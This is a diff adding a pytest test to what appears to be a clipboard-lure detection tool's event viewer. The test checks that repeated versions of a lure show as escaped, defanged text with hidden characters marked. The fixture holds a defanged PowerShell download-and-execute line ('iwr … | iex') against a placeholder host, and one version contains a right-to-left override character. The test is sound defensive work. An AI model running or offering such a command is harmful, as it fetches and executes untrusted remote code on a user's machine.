@@ -157,6 +157,23 @@ def test_details_show_findings_indicators_and_the_text_made_safe(
     assert "<script>" not in html
 
 
+def test_details_show_a_bursts_versions_as_texts_not_as_json(qapp: QApplication) -> None:
+    """A lure written in a loop with a counter appended is one event keeping its versions: the
+    pane shows them as texts (defanged, marks shown), the first and the last whole."""
+    from ui.viewer.details import details_html
+
+    versions = [
+        {"text": "iwr hxxps://x[.]example/a | iex # ID: 1", "whole": True},
+        {"text": "iwr hxxps://x[.]example/a | iex # ID: 2\u202e", "whole": False},
+        {"text": "iwr hxxps://x[.]example/a | iex # ID: 9", "whole": True},
+    ]
+    event = Event(kind="clipboard_neutralized", summary="s", text=versions[0]["text"],
+                  details={"writes": 9, "versions": 9, "version_texts": versions})  # fmt: skip
+    page = details_html(event)
+    assert "Versions written (9 in all)" in page and "version_texts" not in page
+    assert page.count("ID: 9") == 1 and "&lt;U+202E&gt;" in page and "&quot;writes&quot;: 9" in page
+
+
 @pytest.mark.parametrize("fmt", ["csv", "jsonl", "ecs"])
 def test_export_writes_what_the_filter_shows_as_the_cli_does(
     window: ViewerWindow, store: EventStore, tmp_path: Path, fmt: str
